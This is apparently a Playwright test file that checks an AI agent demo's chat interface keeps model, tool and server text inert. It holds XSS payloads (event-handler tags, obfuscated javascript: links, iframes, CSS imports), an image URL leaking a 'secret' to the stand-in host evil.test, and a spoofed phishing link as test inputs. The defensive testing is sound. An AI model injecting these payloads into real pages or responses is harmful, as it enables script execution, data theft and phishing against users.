/** What a model, a tool or a foreign server says is text: it runs nothing, fetches nothing, and links only where one can see. */
import { expect, type Page, test } from '@playwright/test'
import { openDemo } from './page.ts'

/** Opens the demo with a server that answers every run with these events, and notes every request beyond the page's own. */
async function answeredWith(page: Page, events: readonly object[]) {
  const foreign: string[] = []
  const dialogs: string[] = []
  page.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url())
    if (hostname !== '127.0.0.1' && protocol.startsWith('http')) foreign.push(request.url())
  })
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    dialog.dismiss().catch(() => {})
  })
  const body = events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('')
  await page.route('**/api/agents/*/runs', (route) => route.fulfill({ contentType: 'text/event-stream', body }))
  const demo = await openDemo(page)
  await demo.ask('Hello')
  await expect(demo.answer.getByText(/^(Completed|The agent failed)$/).first()).toBeVisible()
  return { demo, foreign, dialogs }
}

const nasty = [
  '<img src=x onerror=alert(1)> <script>alert(2)</script> <svg onload=alert(3)>',
  '![pixel](https://evil.test/p.png?secret=1) ![data](data:image/svg+xml;base64,PHN2Zy8+)',
  '[click](javascript:alert(4)) [tab](java\tscript:alert(5)) [entity](&#106;avascript:alert(6)) [vb](vbscript:x) [data](data:text/html,x)',
  '<iframe src="https://evil.test"></iframe> <link rel="stylesheet" href="https://evil.test/a.css"> <style>@import "https://evil.test/b.css"</style>',
  '<https://good.test/page> [https://good.test](https://evil.test/phish)',
].join('\n\n')

const completed = [
  { type: 'result', output: 'x' },
  { type: 'completed', success: true },
]

test('X1 X2 X3: nothing in a text runs or fetches', async ({ page }) => {
  const { demo, foreign, dialogs } = await answeredWith(page, [{ type: 'started' }, { type: 'token', content: nasty }, ...completed])
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
  await expect(demo.answer.locator('script, iframe, link, style, img, svg [onload]')).toHaveCount(0)
  const hrefs = await demo.answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
  for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:)/)
})

test('X4: where a link really goes can be seen', async ({ page }) => {
  const { demo } = await answeredWith(page, [{ type: 'started' }, { type: 'token', content: nasty }, ...completed])
  const spoofed = demo.answer.locator('a[href^="https://evil.test/phish"]')
  await expect(spoofed).toHaveAttribute('rel', /noopener/)
  await expect(spoofed.locator('xpath=..')).toContainText('evil.test')
})

test('X1: nothing in a tool call, its result, an error or a step name runs', async ({ page }) => {
  const html = '<img src=x onerror=alert(1)>'
  const { foreign, dialogs, demo } = await answeredWith(page, [
    { type: 'started' },
    { type: 'tool_call', tool_name: html, parameters: { a: html } },
    { type: 'tool_result', tool_name: html, result: { b: html } },
    { type: 'tool_call', tool_name: 'x', parameters: {} },
    { type: 'tool_error', tool_name: 'x', error: html },
    { type: 'dawp_run_started', run_id: html, workflow_id: html, placement: html, trigger: html },
    { type: 'dawp_step_started', run_id: html, step_id: html, step_index: 0 },
    { type: 'thinking_token', content: html },
    { type: 'error', error: html },
  ])
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
  await expect(demo.answer.locator('img')).toHaveCount(0)
})

test('X1: every prefix of hostile text is inert, too', async ({ page }) => {
  const tokens = Array.from(nasty.slice(0, 300), (content) => ({ type: 'token', content }))
  const { foreign, dialogs } = await answeredWith(page, [{ type: 'started' }, ...tokens, ...completed])
  expect([...dialogs, ...foreign]).toEqual([])
})
